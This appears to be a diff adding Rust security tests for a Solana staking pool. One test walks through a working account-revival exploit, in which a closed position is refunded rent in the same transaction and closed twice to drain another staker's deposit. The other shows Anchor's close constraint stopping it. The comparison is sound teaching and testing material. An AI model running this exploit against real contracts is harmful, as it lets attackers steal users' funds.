@@ -0,0 +1,69 @@
+#[tokio::test]
+async fn test_revive_closed_position_exploit() {
+    println!("\n=== EXPLOIT: Closed Position Revived With Its Data ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let pool = create_pool().await;
+    stake(&pool, &alice, 10_000).await.unwrap();
+    let position = stake(&pool, &mallory, 1_000).await.unwrap();
+    println!("1. Mallory's position holds 1,000 of the pool's 11,000");
+
+    println!("\n2. One transaction: close_position, refund rent");
+    let rent = get_minimum_balance_for_rent_exemption(8 + 32 + 8 + 1).await;
+    send_tx(
+        &[
+            close_position_ix(&pool, &mallory),
+            system_instruction::transfer(&mallory.pubkey(), &position, rent),
+        ],
+        &[&mallory],
+    )
+    .await
+    .unwrap();
+
+    // Vulnerable: position survives, still program-owned with amount = 1000
+    let revived = get_position(&position).await;
+    assert_eq!(revived.amount, 1_000);
+    println!("   Position still exists with amount = {}", revived.amount);
+
+    println!("\n3. Mallory closes it again");
+    close_position(&pool, &mallory).await.unwrap();
+    assert_eq!(get_token_balance(&mallory_token(&mallory)).await, 2_000);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 1,000 staked, 2,000 withdrawn from Alice's deposit");
+}
+
+#[tokio::test]
+async fn test_anchor_close_constraint() {
+    println!("\n=== SECURITY: Anchor close Constraint ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let pool = create_pool().await;
+    stake(&pool, &alice, 10_000).await.unwrap();
+    let position = stake(&pool, &mallory, 1_000).await.unwrap();
+
+    println!("1. One transaction: close_position, refund rent");
+    let rent = get_minimum_balance_for_rent_exemption(0).await;
+    send_tx(
+        &[
+            close_position_ix(&pool, &mallory),
+            system_instruction::transfer(&mallory.pubkey(), &position, rent),
+        ],
+        &[&mallory],
+    )
+    .await
+    .unwrap();
+
+    let account = get_account(&position).await.unwrap();
+    assert_eq!(account.owner, system_program::ID);
+    assert!(account.data.is_empty());
+    println!("   ✓ Address is system-owned with no data");
+
+    println!("\n2. Mallory closes it again");
+    let result = close_position(&pool, &mallory).await;
+    assert!(result.is_err());
+    assert_eq!(get_token_balance(&mallory_token(&mallory)).await, 1_000);
+    println!("   ✓ Error: AccountOwnedByWrongProgram");
+}